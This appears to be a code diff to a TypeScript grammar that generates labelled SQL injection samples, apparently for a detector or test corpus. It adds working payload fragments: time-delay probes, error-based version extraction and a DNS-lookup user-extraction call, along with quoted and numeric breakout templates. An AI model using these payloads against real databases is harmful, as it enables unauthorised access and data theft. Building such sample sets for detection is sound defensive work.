@@ -161,6 +161,14 @@ const SHARED: Grammar = {
   gend: ['', '--', ' -- -', '#', '/*', ';--'],
   // Joining an expression into the string the application builds.
   cc: ['||', '+', ' || ', '-', '*', '|', '^', ' + '],
+  // Calls and subqueries (the expressions that still read as SQL when the '+' around them was
+  // sent unencoded in a query string or form, and arrives as a space: ' sleep(5) ').
+  expr_call: [
+    'sleep(5)', '(select 1)', 'pg_sleep(5)', '(select version())', 'version()', 'benchmark(5000000,md5(1))',
+    'convert(int,@@version)', 'db_name()', '(case when 1=1 then 1 else 0 end)', 'if(1=1,sleep(5),0)',
+    '(select * from (select(sleep(5)))a)', 'char(65)', 'extractvalue(1,concat(0x7e,version()))',
+    'dbms_pipe.receive_message(\'a\',5)', 'utl_inaddr.get_host_name((select user from dual))',
+  ],
   expr: [
     'sleep(5)', '(select 1)', 'pg_sleep(5)', '(select version())', '(select user from dual)',
     'utl_inaddr.get_host_name((select user from dual))', 'dbms_pipe.receive_message(\'a\',5)',
@@ -197,7 +205,7 @@ const SHARED: Grammar = {
 /** Breakouts from a value in a quoted context: the string closed, maybe parentheses too. */
 const QUOTED_BREAKOUTS = ['{q}', 'x{q}', 'x{q})', 'x{q}))'];
 
-/** Breakouts from a bare (numeric) value. */
+/** Breakouts from a bare (numeric) value; '' is a payload that starts the injection itself. */
 const BARE_BREAKOUTS = ['1', '-1', '1)', '1))', 'x', 'x)', '', ')', '))', '@x'];
 
 const QUOTED_TEMPLATES = [
@@ -215,6 +223,8 @@ const QUOTED_TEMPLATES = [
   '{brk} {group}{gend}',
   '{brk}{cc}{expr}{cc}{q}',
   '{brk}{cc}{expr}{cc}({q}',
+  '{brk} {expr_call} {q}',
+  '{brk} {expr_call}{end_short}',
   '{brk}{cc}{expr}{end_short}',
   '{brk}{cmp_q}',
   '{brk} {logic} {cond_tiny} {tail}{end_short}',
@@ -227,6 +237,7 @@ const BARE_TEMPLATES = [
   '{brk}{end}',
   '{brk} {logic} {cond}{end_short}',
   '{brk} {logic} {cond_tiny}{end}',
+  '{brkv} {bitop} {cond}{end_short}',
   '{brk} {logic} {short} {union} {select} {cols_short}{uend}',
   '{brk} {union} {select} {cols}{from}{uend}',
   '{brk}{semi}{stmt}{send}',
@@ -257,7 +268,17 @@ export function attackSamples(): Sample[] {
     [QUOTE_DOUBLE, '"', QUOTED_BREAKOUTS, QUOTED_TEMPLATES],
   ];
   for (const [context, q, breakouts, templates] of contexts) {
-    const expander = new Expander({ ...SHARED, q: [q], brk: breakouts });
+    const bare = context === QUOTE_NONE;
+    const expander = new Expander({
+      ...SHARED,
+      q: [q],
+      brk: breakouts,
+      brkv: breakouts.filter((b) => b !== ''),
+      // Without a value before it, a payload that opens with a binary operator ("| 1=1") is not
+      // SQL; the bit operators get their own template with a value in front.
+      logic: bare ? ['or', 'and not'] : SHARED.logic ?? [],
+      bitop: ['|', 'div', '^'],
+    });
     for (const template of templates) {
       for (const text of expander.expand(template)) out.push({ text: decodeMarkers(text), context });
     }
